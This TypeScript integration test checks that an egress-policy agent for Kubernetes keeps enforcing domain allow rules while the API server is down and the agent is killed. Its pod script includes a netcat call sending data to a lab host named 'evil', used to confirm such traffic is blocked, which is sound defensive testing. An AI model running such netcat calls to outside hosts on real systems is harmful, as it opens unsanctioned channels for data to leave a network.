import { afterAll, beforeAll, expect, test } from "vitest";
import { OUTSIDE } from "../../src/lab/addresses.ts";
import type { Lab } from "../../src/lab/lab.ts";
import { must, run } from "../../src/lab/process.ts";
import type { Cluster } from "./cluster.ts";
import { onMachine } from "./machine.ts";
import { podObject } from "./pods.ts";
import { sharedRelease } from "./shared-release.ts";

const NAMESPACE = "away";
/** How long nobody serves the API. */
const AWAY_SECONDS = Number(process.env["AWAY_SECONDS"]) || 90;
const GITHUB = "api.github.com";
const WEATHER = "api.weather.gov";

const only = (domain: string): object => ({
  apiVersion: "sallyport.dev/v1alpha1",
  kind: "EgressPolicy",
  metadata: { name: "one-site", namespace: NAMESPACE },
  spec: {
    priority: 10,
    subject: {},
    rules: [{ name: "site", action: "Allow", to: [{ domains: [domain], ports: [{ protocol: "TCP", port: 443 }] }] }],
  },
});

/** New connections all the time, by name and past all names. */
const TALKING = `while true; do
  for name in ${GITHUB} ${WEATHER}; do curl -s -m 2 -o /dev/null "https://$name/?$HOSTNAME"; done
  echo x | nc -w 1 ${OUTSIDE.evil.ipv4} 8080
  sleep 0.5
done`;

let cluster: Cluster;
let lab: Lab;

const delay = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const talker = (name: string): object => podObject(name, { namespace: NAMESPACE, command: ["sh", "-c", TALKING] });
const served = async (): Promise<boolean> =>
  (await cluster.tryKubectl(["get", "--raw", "/readyz"], { timeoutMs: 5_000 })).status === 0;
const ready = async (): Promise<string> =>
  (await run(onMachine(cluster.machine, ["curl", "-s", "-m", "2", "http://127.0.0.1:9464/readyz"]))).stdout.trim();

/** Who reached what outside since the last `forgetOutside`. Nobody can be asked to run a program in a pod meanwhile. */
async function reached(): Promise<Record<string, readonly string[]>> {
  const seen = new Map<string, Set<string>>();
  for (const { host, target } of await lab.outsideLog()) {
    const pod = target.replace("/?", "");
    seen.set(pod, (seen.get(pod) ?? new Set()).add(host));
  }
  return Object.fromEntries([...seen].map(([pod, hosts]) => [pod, [...hosts].sort()]));
}

async function packetsAtEvil(): Promise<number> {
  const evil: readonly string[] = Object.values(OUTSIDE.evil);
  return (await lab.outsideSaw()).filter(({ address }) => evil.includes(address)).length;
}

beforeAll(async () => {
  ({ cluster, lab } = await sharedRelease());
  await cluster.apply([{ apiVersion: "v1", kind: "Namespace", metadata: { name: NAMESPACE } }]);
  await cluster.apply([only(GITHUB), talker("one"), talker("two")]);
  await cluster.kubectl(["wait", "--for=condition=Ready", "pod", "--all", "-n", NAMESPACE, "--timeout=60s"], {
    timeoutMs: 70_000,
  });
}, 300_000);

afterAll(async () => {
  await cluster.kubectl(["delete", "pod", "--all", "-n", NAMESPACE], { timeoutMs: 60_000 });
  await cluster.kubectl(["delete", "namespace", NAMESPACE, "--ignore-not-found", "--wait=false"]);
}, 180_000);

test(
  `${AWAY_SECONDS} s without an API server, an agent that dies meanwhile: what was known holds, and then what is new`,
  async () => {
    const both = { one: [GITHUB], two: [GITHUB] };
    await lab.forgetOutside();
    await expect.poll(reached, { timeout: 30_000 }).toEqual(both);
    await cluster.stop("kube-apiserver");
    try {
      const until = performance.now() + AWAY_SECONDS * 1000;
      await delay((AWAY_SECONDS * 1000) / 4);
      // Supervisor and agent at once, so that the kubelet has to start the container again, with nobody to tell it anything.
      await must(onMachine(cluster.machine, ["pkill", "-KILL", "-f", "bin/sallyport agent"]));
      expect(await ready()).not.toBe("ok");
      await expect.poll(ready, { timeout: 60_000, interval: 500 }).toBe("ok");
      expect(await packetsAtEvil()).toBe(0);
      await lab.forgetOutside();
      await delay(Math.max(0, until - performance.now()));
      await expect.poll(reached, { timeout: 30_000 }).toEqual(both);
      expect(await served()).toBe(false);
    } finally {
      await cluster.restart("kube-apiserver");
    }
    await expect.poll(served, { timeout: 60_000, interval: 500 }).toBe(true);
    await cluster.apply([only(WEATHER), talker("late")]);
    // Watches wait up to half a minute between their tries.
    await expect.poll(async () => (await reached())["one"], { timeout: 90_000, interval: 500 }).toContain(WEATHER);
    await expect.poll(async () => (await reached())["late"], { timeout: 60_000, interval: 500 }).toContain(WEATHER);
    await lab.forgetOutside();
    const all = { late: [WEATHER], one: [WEATHER], two: [WEATHER] };
    await expect.poll(reached, { timeout: 30_000, interval: 500 }).toEqual(all);
    expect(await packetsAtEvil()).toBe(0);
  },
  (AWAY_SECONDS + 300) * 1000,
);
